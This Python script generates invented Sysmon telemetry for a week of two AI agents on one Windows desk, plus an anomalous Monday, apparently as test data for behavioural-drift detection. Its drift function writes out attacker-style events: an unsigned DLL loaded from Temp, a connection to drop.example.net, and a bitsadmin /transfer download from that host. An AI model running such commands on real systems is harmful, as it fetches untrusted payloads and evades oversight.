"""Write the example telemetry beside this file: an invented week of two agents on one desk, and the Monday after it.

On Monday one of them loads a library it never loaded, starts a program it never started, and reaches a place it never
reached. Everything is made up; the fields are those that Sysmon's events have.
"""

import json
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from hashlib import sha256
from pathlib import Path
from typing import Any

HERE = Path(__file__).resolve().parent / "sysmon"
FIRST = datetime(2025, 3, 3, 8, 0, tzinfo=UTC)
"""A Monday."""
LEARNT_DAYS = 7

CLAUDE = "C:\\Users\\ana\\.local\\bin\\claude.exe"
SHELL = "C:\\Windows\\System32\\cmd.exe"
GIT = "C:\\Program Files\\Git\\cmd\\git.exe"
NODE = "C:\\Program Files\\nodejs\\node.exe"
PYTHON = "C:\\Python312\\python.exe"
BITS = "C:\\Windows\\System32\\bitsadmin.exe"

Row = dict[str, Any]


class Desk:
    """One host, whose processes get fresh numbers."""

    def __init__(self) -> None:
        self._pid = 4_000

    def start(self, at: datetime, image: str, line: str, parent: Row) -> Row:
        """Return the start of a process."""
        self._pid += 4
        return {
            **row(1, at),
            "ProcessGuid": f"{{{sha256(f'{self._pid}'.encode()).hexdigest()[:32]}}}",
            "ProcessId": self._pid,
            "Image": image,
            "CommandLine": line,
            "Hashes": f"SHA256={sha256(image.encode()).hexdigest().upper()}",
            "ParentProcessGuid": parent["ProcessGuid"],
            "ParentProcessId": parent["ProcessId"],
            "ParentImage": parent["Image"],
            "ParentCommandLine": parent["CommandLine"],
        }


def row(event_id: int, at: datetime) -> Row:
    """Return what every row has."""
    return {
        "EventID": event_id,
        "Channel": "Microsoft-Windows-Sysmon/Operational",
        "Hostname": "desk-17",
        "UtcTime": f"{at:%Y-%m-%d %H:%M:%S}.{at.microsecond // 1000:03d}",
        "User": "CORP\\ana",
    }


def act(event_id: int, at: datetime, actor: Row, **fields: object) -> Row:
    """Return what a process did."""
    own = {name: actor[name] for name in ("ProcessGuid", "ProcessId", "Image")}
    return {**row(event_id, at), **own, **fields}


def reach(at: datetime, actor: Row, host: str, address: str) -> Iterator[Row]:
    """Yield a look-up and the connection after it."""
    yield act(22, at, actor, QueryName=host, QueryResults=f"::ffff:{address};", QueryStatus="0")
    connection = {"Protocol": "tcp", "Initiated": True, "DestinationIp": address, "DestinationPort": 443}
    yield act(3, at + timedelta(seconds=1), actor, DestinationHostname=host, **connection)


def load(at: datetime, actor: Row, path: str, signer: str = "") -> Row:
    """Return the load of a library, signed where a signer is named."""
    signature = {"Signed": bool(signer), "Signature": signer or "-"}
    status = "Valid" if signer else "Unavailable"
    digest = f"SHA256={sha256(path.encode()).hexdigest().upper()}"
    return act(7, at, actor, ImageLoaded=path, Hashes=digest, SignatureStatus=status, **signature)


def coding(desk: Desk, day: datetime) -> Iterator[Row]:
    """Yield two hours of the coding agent."""
    shell = desk.start(day, SHELL, "cmd.exe", boot())
    yield shell
    claude = desk.start(day + timedelta(minutes=1), CLAUDE, "claude.exe --ide", shell)
    yield claude
    yield load(day + timedelta(minutes=1, seconds=2), claude, "C:\\Windows\\System32\\winhttp.dll", "Microsoft Windows")
    for turn in range(6):
        at = day + timedelta(minutes=3 + 19 * turn)
        yield from reach(at, claude, "api.anthropic.com", "192.0.2.10")
        yield desk.start(at + timedelta(seconds=20), GIT, "git.exe status --short", claude)
        yield act(11, at + timedelta(seconds=40), claude, TargetFilename=f"C:\\work\\shop\\src\\page{turn}.ts")
        yield desk.start(at + timedelta(seconds=60), NODE, "node.exe C:\\work\\shop\\build.js", claude)


def invoices(desk: Desk, day: datetime) -> Iterator[Row]:
    """Yield the hourly runs of the invoice agent."""
    for hour in range(4):
        at = day + timedelta(hours=hour, minutes=30)
        agent = desk.start(at, PYTHON, "python.exe -m langchain.serve --inbox C:\\work\\invoices", boot())
        yield agent
        yield from reach(at + timedelta(seconds=5), agent, "api.openai.com", "192.0.2.20")
        yield from reach(at + timedelta(seconds=9), agent, "books.corp.example", "192.0.2.30")
        yield act(11, at + timedelta(seconds=15), agent, TargetFilename="C:\\work\\invoices\\done\\ledger.csv")


def drift(desk: Desk, at: datetime, claude: Row) -> Iterator[Row]:
    """Yield what is unlike the week before."""
    yield load(at, claude, "C:\\Users\\ana\\AppData\\Local\\Temp\\relay.dll")
    yield from reach(at + timedelta(minutes=1), claude, "drop.example.net", "198.51.100.7")
    line = "bitsadmin.exe /transfer job https://drop.example.net/a C:\\Users\\ana\\a"
    yield desk.start(at + timedelta(minutes=2), BITS, line, claude)


def boot() -> Row:
    """Return the session's first process, of which there is no event."""
    explorer = "C:\\Windows\\explorer.exe"
    return {"ProcessGuid": f"{{{'0' * 32}}}", "ProcessId": 900, "Image": explorer, "CommandLine": explorer}


def main() -> None:
    """Write `week.jsonl` and `monday.jsonl`."""
    desk = Desk()
    days = [FIRST + timedelta(days=number) for number in range(LEARNT_DAYS + 1)]
    week = [one for day in days[:-1] for one in (*coding(desk, day), *invoices(desk, day))]
    monday = [*coding(desk, days[-1]), *invoices(desk, days[-1])]
    claude = next(one for one in monday if one["Image"] == CLAUDE)
    monday += drift(desk, days[-1] + timedelta(hours=1, minutes=12), claude)
    for name, rows in (("week", week), ("monday", monday)):
        rows.sort(key=lambda one: str(one["UtcTime"]))
        text = "".join(json.dumps(one, separators=(",", ":")) + "\n" for one in rows)
        (HERE / f"{name}.jsonl").write_text(text, encoding="utf-8")


if __name__ == "__main__":
    main()
